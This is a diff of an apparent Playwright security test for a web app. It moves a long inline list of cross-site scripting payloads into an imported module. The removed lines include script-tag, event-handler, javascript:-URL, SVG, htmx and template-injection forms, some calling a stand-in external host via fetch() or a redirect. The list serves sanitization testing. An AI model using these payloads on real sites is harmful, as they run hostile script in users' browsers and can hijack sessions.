@@ -12,72 +12,11 @@ from playwright.async_api import Page
 from browsers import Browsers, Seen, cookie_of, fitting, served, wrong
 from builders import claude_line, claude_path, claude_prompt, claude_reply, claude_result, home_of, put, session_id
 from callers import person
+from foreign import FORMS, PAYLOADS
 from precedent.app import App
 from precedent.security.principals import Role
 from precedent.settings import load
 
-ELSEWHERE = "https://elsewhere.invalid"
-CALLS = (
-    "alert(1)",
-    "window.__hits.push('ran')",
-    f"fetch('{ELSEWHERE}/f')",
-    "import('/static/x.js')",
-    f"location='{ELSEWHERE}/'",
-)
-FORMS = (
-    "<script>{c}</script>",
-    "<ScRiPt>{c}</sCrIpT>",
-    "</script><script>{c}</script>",
-    "<img src=x onerror={c}>",
-    "<img src='{e}/i.png'>",
-    "<svg onload={c}>",
-    "<svg><script>{c}</script></svg>",
-    "<svg><animate onbegin={c} attributeName=x dur=1s>",
-    "<svg><use href='{e}/s.svg#x'/></svg>",
-    "<math><mtext></mtext><script>{c}</script></math>",
-    "<body onload={c}>",
-    "<iframe src=javascript:{c}></iframe>",
-    '<iframe srcdoc="<script>{c}</script>"></iframe>',
-    "<object data='{e}/o'></object>",
-    "<embed src='{e}/e'>",
-    "<link rel=stylesheet href='{e}/c.css'>",
-    "<style>@import '{e}/s.css';body{{display:none}}</style>",
-    "<base href='{e}/'>",
-    "<meta http-equiv=refresh content='0;url={e}/'>",
-    "<form action='{e}/'><button autofocus onfocus={c}>x</button></form>",
-    "<input autofocus onfocus={c}>",
-    "<details open ontoggle={c}>x</details>",
-    "<video src='{e}/v' onerror={c}></video>",
-    "<audio src=x onerror={c}>",
-    "<marquee onstart={c}>x</marquee>",
-    "<a href=javascript:{c} autofocus onfocus={c}>x</a>",
-    "[x](javascript:{c})",
-    "![x]({e}/m.png)",
-    "<div hx-get='{e}/h' hx-trigger=load>x</div>",
-    "<div hx-on:load='{c}' hx-trigger=load>x</div>",
-    "<div data-hx-get='/logout' data-hx-trigger=load>x</div>",
-    "<div data-chart='{{}}' data-toast>x</div>",
-    "\"'><script>{c}</script>",
-    "' onmouseover='{c}' autofocus onfocus='{c}",
-    '" autofocus onfocus="{c}',
-    "`-{c}-`",
-    "{{{{ 7*7 }}}}{{% include 'base.html' %}}{c}",
-    "${{{c}}}",
-    "<!--><script>{c}</script>-->",
-    "<![CDATA[<script>{c}</script>]]>",
-    '<noscript><p title="</noscript><img src=x onerror={c}>">',
-    "<template><script>{c}</script></template><img src=x onerror={c}>",
-    "\u001b]8;;{e}/\u0007link\u001b]8;;\u0007<img src=x onerror={c}>",
-    "&lt;script&gt;{c}&lt;/script&gt;",
-    "%3Cscript%3E{c}%3C/script%3E",
-    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
-    "</title><script>{c}</script>",
-    "</textarea><script>{c}</script>",
-    "</time><script>{c}</script>\u202e",
-    "<x onclick={c} tabindex=1 id=x>x</x>",
-    "</pre></details><script>{c}</script>",
-)
-PAYLOADS = [form.format(c=call, e=ELSEWHERE) for call in CALLS for form in FORMS]
 PER_SESSION = 17
 
 
